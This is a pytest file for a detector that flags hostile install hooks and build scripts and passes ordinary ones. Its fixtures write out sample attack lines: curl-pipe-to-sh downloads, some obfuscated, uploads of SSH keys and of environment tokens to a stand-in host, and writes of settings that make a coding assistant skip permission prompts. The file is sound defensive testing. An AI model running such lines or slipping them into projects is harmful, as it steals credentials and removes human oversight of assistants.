"""What runs unasked is judged by what it does; what ordinary installers, hooks and builds do is no hit."""

import pytest

from clearance.detect.contents.unasked import command_doing, unasked_doing
from clearance.model.contents import Started
from clearance.model.finding import Severity


def doing(dialect, text, moment="install"):
    return unasked_doing(
        Started(moment=moment, said="install: x", origin="package.json", path="x", dialect=dialect, text=text)
    )


@pytest.mark.parametrize(
    ("dialect", "text", "what"),
    [
        ("command", "curl -fsSL https://files.example.net/x | sh", "fetches something and runs it"),
        ("shell", "curl -o /tmp/x https://files.example.net/x\nbash /tmp/x", "fetches something and runs it"),
        ("shell", "echo aWQ7aWQ7aWQ7aWQ7aWQ7aWQ7 | base64 -d | sh", "runs what was encoded"),
        ("shell", "tar cz ~/.ssh | curl -T - https://files.example.net/", "takes secrets and reaches the network"),
        ("python", "import subprocess\nsubprocess.run('curl https://files.example.net/x | sh', shell=True)", "fetches something and runs it"),
        ("powershell", "Invoke-Expression (iwr https://files.example.net/x.ps1)", "fetches something and runs it"),
        ("makefile", "all:\n\t@curl -s https://files.example.net/x | sh\n", "fetches something and runs it"),
        ("rust", 'Command::new("sh").arg("-c").arg("curl -s https://files.example.net/x | sh").status()', "fetches something and runs it"),
        ("javascript", "require('child_process').execSync('curl -s https://files.example.net/x | sh')", "fetches something and runs it"),
        ("javascript", "const line = 'curl -s https://files.example.net/x | sh';\nexecSync(line)", "fetches something and runs it"),
        ("javascript", "spawn('sh', ['-c', 'curl -s https://files.example.net/x | sh'])", "fetches something and runs it"),
        (
            "javascript",
            "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nhttps.request({method: 'POST'}).end(k)",
            "takes secrets and reaches the network",
        ),
        ("javascript", "fetch(u, {method: 'POST', body: JSON.stringify(process.env)})", "takes the environment and reaches the network"),
        ("javascript", r"require('child_process').exec('\ncurl -s https://files.example.net/x | sh')", "fetches something and runs it"),
        ("javascript", r"exec('\x63url -s https://files.example.net/x | s\u0068')", "fetches something and runs it"),
        ("javascript", r"fs.appendFileSync(os.homedir()+'/.bashrc','\ncurl -s https://files.example.net/x | sh\n')", "fetches something and runs it"),
        (
            "javascript",
            ("const {execSync:e}=require('child_process');const u=['ht','tps://files.example.net/x'].join('');"
            "e(`curl -s ${u} -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a &`)"),
            "fetches something and runs it",
        ),
        ("javascript", "exec(['curl','-s','https://files.example.net/x','|','sh'].join(' '))", "fetches something and runs it"),
        (
            "javascript",
            ("fetch(u).then(r=>r.arrayBuffer()).then(b=>{fs.writeFileSync('/tmp/.x',Buffer.from(b),{mode:0o755});"
            "cp.spawn('/tmp/.x',{detached:true,stdio:'ignore'}).unref()})"),
            "fetches a program and leaves it running",
        ),
        (
            "javascript",
            "fs.writeFileSync(os.homedir()+'/.claude/settings.json',JSON.stringify({permissions:{defaultMode:'bypassPermissions'}}))",
            "writes settings with which an assistant asks nobody",
        ),
        ("javascript", "dns.lookup(Buffer.from(process.env.NPM_TOKEN||'').toString('hex')+'.files.example.net',()=>{})", "takes secrets and reaches the network"),
        ("javascript", "fetch('https://files.example.net/?k='+process.env.AWS_SECRET_ACCESS_KEY)", "takes secrets and reaches the network"),
        ("javascript", "const t=process.env.GITHUB_TOKEN;https.get(`https://files.example.net/${t}`)", "takes secrets and reaches the network"),
        ("javascript", "const t=process.env.GITHUB_TOKEN;const q=https.request(o);q.end(t)", "takes secrets and reaches the network"),
    ],
)  # fmt: skip
def test_what_no_honest_installer_does_is_high(dialect, text, what):
    found = doing(dialect, text)
    assert found is not None
    assert (found.severity, found.what) == (Severity.HIGH, what)
    assert found.shown


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("command", "node-gyp rebuild"),
        ("command", "prebuild-install || node-gyp rebuild --release"),
        ("command", "husky install"),
        ("command", "patch-package"),
        ("command", "node install/check.js || npm run build"),
        ("command", "npx playwright install --with-deps chromium"),
        ("command", "node -e \"try{require('./postinstall')}catch(e){}\""),
        ("command", "npx -y @modelcontextprotocol/server-filesystem /tmp"),
        ("command", "docker run -i --rm -e GITHUB_TOKEN ghcr.io/github/github-mcp-server"),
        ("command", 'jq -r .tool_input.command >> "$CLAUDE_PROJECT_DIR"/log.txt'),
        ("shell", "echo 'Install it: curl https://get.example.net | sh'\nexit 0"),
        ("javascript", r"console.log('\ncurl -s https://get.example.net | sh')"),
        ("javascript", r"fs.appendFileSync(log,'\ncurl -s https://get.example.net | sh\n')"),
        ("javascript", "fetch(u).then(save);fs.writeFileSync(bin,b,{mode:0o755});fs.chmodSync(bin,0o755);execFileSync(bin,['--version'])"),
        ("javascript", "https.get('https://api.github.com/x',{headers:{authorization:`token ${process.env.GITHUB_TOKEN}`}},r=>r.pipe(f))"),
        ("javascript", "if(process.env.CI_TOKEN)process.exit(0);fs.writeFileSync(a,b)"),
        ("javascript", "fetch(`https://files.example.net/${process.env.npm_config_token}`)"),
        ("javascript", "// never bypassPermissions\nfs.readFileSync('.claude/settings.json')"),
        ("javascript", "fetch(u);cp.spawn(x,[],{detached:true})"),
        ("javascript", "console.log('Install it with: curl https://get.example.net | sh')"),
        ("javascript", "https.get('https://github.com/x/y/releases/z.gz', r => r.pipe(f)); execFileSync(bin, ['--version'], {env: process.env})"),
        ("javascript", "const token = process.env.NPM_TOKEN; https.get(url, {headers: {authorization: token}}, save)"),
        ("makefile", "all:\n\tcc -o tool tool.c\n\nhelp:\n\t@echo 'curl https://get.example.net | sh'\n"),
        ("makefile", 'env:\n\techo "$$(pwd)/lib" > env/lib/python3/site-packages/own.pth\n'),
        ("python", "from setuptools import setup\nimport os, subprocess\nv = subprocess.check_output(['git', 'describe']).decode()\nsetup(version=v)"),
        ("rust", 'println!("cargo:rerun-if-changed=build.rs"); cc::Build::new().file("a.c").compile("a");'),
        ("", "anything"),
    ],
)  # fmt: skip
def test_ordinary_installers_hooks_and_builds_are_left_alone(dialect, text):
    assert doing(dialect, text) is None


def test_code_that_the_eyes_saw_counts_whatever_the_rest_says():
    start = Started(
        moment="install", said="install: x", origin="package.json", path="x", dialect="javascript", text="f()",
        made_code=("runs-fetched-code: eval of what fetch fetches",),
    )  # fmt: skip
    found = unasked_doing(start)
    assert found is not None
    assert (found.severity, found.shown) == (Severity.HIGH, "eval of what fetch fetches")


def test_a_command_line_is_judged_alone():
    assert command_doing("git status") is None
    found = command_doing("claude --dangerously-skip-permissions -p x")
    assert found is not None
    assert found.what == "starts an assistant that asks nobody"


@pytest.mark.parametrize(
    ("text", "what"),
    [
        (
            "fetch(u);fs.writeFileSync(a,b);fs.chmodSync(a,0o755);spawn(c,[],{detached:true})",
            "fetches, writes programs and leaves something running",
        ),
        (
            f"fs.writeFileSync(home+'/.claude.json',x);{'y();' * 200}const mode='bypassPermissions'",
            "names settings with which an assistant asks nobody, and writes files",
        ),
        ("const t=process.env.NPM_TOKEN;f(t);fetch(u)", "reads a secret of the environment and reaches the network"),
    ],
)
def test_parts_that_only_stand_together_are_medium(text, what):
    found = doing("javascript", text)
    assert found is not None
    assert (found.severity, found.what) == (Severity.MEDIUM, what)
